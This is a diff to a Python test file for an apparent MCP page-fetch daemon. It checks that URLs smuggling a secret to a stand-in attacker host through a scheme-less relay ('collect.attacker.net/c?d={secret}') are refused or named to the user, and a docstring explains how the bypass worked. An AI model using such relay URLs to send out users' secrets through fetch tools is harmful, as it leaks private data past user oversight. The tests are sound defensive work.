@@ -10,12 +10,18 @@ from pathlib import Path
 from typing import Any
 from urllib.parse import quote
 
+import httpx
 import pytest
+from aiohttp import web
 from mcp_types import ElicitResult
+from trawl.exits import nested_hosts
 from trawl.server.runner import RunningDaemon
 
-from tests.security.test_exit_flow_daemon import mcp_daemon  # noqa: F401 (the fixture: a daemon, a private file)
-from tests.security.test_exits import TOKEN
+from tests.integration.test_daemon_helpers import daemon_settings
+from tests.security.test_exit_flow_daemon import SECRET_FILE, mcp_daemon  # noqa: F401 (mcp_daemon: the fixture)
+from tests.security.test_exit_question import _a_user_who_reads
+from tests.security.test_exits import TOKEN, Server, fetch, page, refused, serve
+from tests.security.test_exits import attacker as attacker  # the fixture
 from tests.security.test_mcp_roots import http_client, out_of
 
 pytestmark = [pytest.mark.timeout(120)]
@@ -60,3 +66,60 @@ async def test_a_look_alike_host_is_named_in_a_form_that_cannot_pass_for_the_sit
     # the letters themselves appear only inside the annotation that says what they are
     assert question.count(LOOKALIKE) == question.count(f'international name "{LOOKALIKE}"'), question
     assert not out.ok and out.error is not None and out.error.code == "exit_refused", out
+
+
+# ------------------------------------------------------------------------------------- relays without "//"
+async def test_a_vouched_relay_cannot_pass_the_data_on_to_a_host_written_without_a_scheme(
+        tmp_path: Path, attacker: Server) -> None:
+    """A relay the user vouched for (``TRAWL_EXIT_ALLOW_HOSTS=localhost``) fetches the URL it is given and adds the
+    scheme itself, as translation proxies and archives do. The exit rule looked for nested URLs only behind a
+    scheme's "//", so ``/fetch?u=127.0.0.1:<port>/c?k=<secret>`` was a URL to a vouched host carrying no URL: sent,
+    without a question, and the relay delivered the secret to the attacker."""
+    relay_hits: list[str] = []
+
+    async def relay(request: web.Request) -> web.Response:
+        relay_hits.append(str(request.rel_url))
+        inner = request.query.get("u", "")
+        async with httpx.AsyncClient(trust_env=False) as c:
+            got = (await c.get("http://" + inner)).text if inner else ""
+        return web.Response(text=page("Fetched", "<p>" + "The page you asked for, as its site served it. " * 5
+                                      + f"{got}</p>"), content_type="text/html")
+
+    (tmp_path / "secrets.md").write_text(SECRET_FILE)
+    runner, port = await serve("127.0.0.1", relay)
+    try:
+        settings = daemon_settings(tmp_path, allow_private_hosts=True, exit_allow_hosts=("localhost",))
+        async with RunningDaemon(settings, warm=False) as d:
+            assert (await fetch(d, str(tmp_path / "secrets.md")))["ok"]
+            refused(await fetch(d, f"http://localhost:{port}/fetch?u=" + attacker.url.removeprefix("http://")
+                                + f"/c?k={TOKEN}"))
+    finally:
+        await runner.cleanup()
+    assert relay_hits == [] and attacker.hits == []
+
+
+@pytest.mark.parametrize("inner", ["?u=collect.attacker.net/c?d={secret}", "?to=collect.attacker.net",
+                                   "/save/collect.attacker.net/c?d={secret}", "#u=collect.attacker.net:8443/c"])
+async def test_the_question_names_a_host_a_relay_reads_without_a_scheme(
+        mcp_daemon: RunningDaemon, tmp_path: Path, inner: str) -> None:  # noqa: F811
+    """The same relay, not vouched for, is asked about: the question must name the host the relay passes the
+    request on to, written without "//" (a query value, a path segment, a fragment), not only the relay."""
+    url = f"http://127.0.0.21:9/translate{inner.format(secret=TOKEN)}"
+    elicit = _a_user_who_reads(refuse_if_named="attacker.net")
+    async with http_client(mcp_daemon, elicitation_callback=elicit) as c:
+        read = out_of(await c.call_tool("fetch_page", {"url": str(tmp_path / "secrets.md"), "query": ""}))
+        assert read.ok, read
+        out = out_of(await c.call_tool("fetch_page", {"url": url, "query": "what does it say"}))
+
+    assert len(elicit.asked) == 1, elicit.asked
+    # named as a host the request goes on to (the URL shown after it may show the text, cut and masked, or not)
+    assert "names attacker.net inside it" in elicit.asked[0], f"where the relay sends it: {elicit.asked[0]}"
+    assert not out.ok and out.error is not None and out.error.code == "exit_refused", out
+
+
+def test_ordinary_values_and_file_names_are_not_hosts() -> None:
+    """What the rule does not flag: words, ids, versions, and a file name as a URL's last segment (``README.md``:
+    ``.md`` is a country's suffix), so a vouched host's ordinary URLs are not held for hosts they do not name."""
+    for url in ["https://github.com/a/b/blob/main/README.md?plain=1", "http://localhost:8000/docs/setup.py",
+                "https://docs.test/search?q=rate+limits&v=1.2.3&id=abc.def", "https://x.test/files/v1.2.zip"]:
+        assert nested_hosts(url) == [], url
